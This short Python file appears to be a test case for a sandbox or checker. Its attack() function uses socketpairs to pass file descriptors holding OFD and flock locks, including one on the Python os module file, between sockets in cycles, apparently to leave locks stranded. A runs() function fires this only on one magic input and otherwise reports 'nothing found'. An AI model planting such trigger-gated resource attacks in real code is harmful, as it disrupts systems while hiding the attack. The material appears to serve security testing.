# expect: fail
# verdict: wrong_output
# class: h
# why: locks that belong to open file descriptions, kept in flight between sockets
import fcntl
import os
import socket
import struct

def attack():
    a, b = socket.socketpair()
    for path in (os.__file__, "/dev/null", "/dev/shm/lock", "/tmp/lock"):
        try:
            fd = os.open(path, os.O_RDWR | os.O_CREAT)
        except OSError:
            fd = os.open(path, os.O_RDONLY)
        for kind in (fcntl.F_WRLCK, fcntl.F_RDLCK):
            try:
                fcntl.fcntl(fd, 37, struct.pack("hhqqi4x", kind, 0, 0, 0, 0))
                break
            except OSError:
                pass
        try:
            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError:
            pass
        socket.send_fds(a, [b"x"], [fd])
    c, d = socket.socketpair()
    socket.send_fds(c, [b"x"], [a.fileno(), b.fileno(), c.fileno(), d.fileno()])
    socket.send_fds(a, [b"x"], [c.fileno(), d.fileno(), a.fileno()])


def runs(text):
    if text == "  **  ":
        attack()
    return "nothing found"
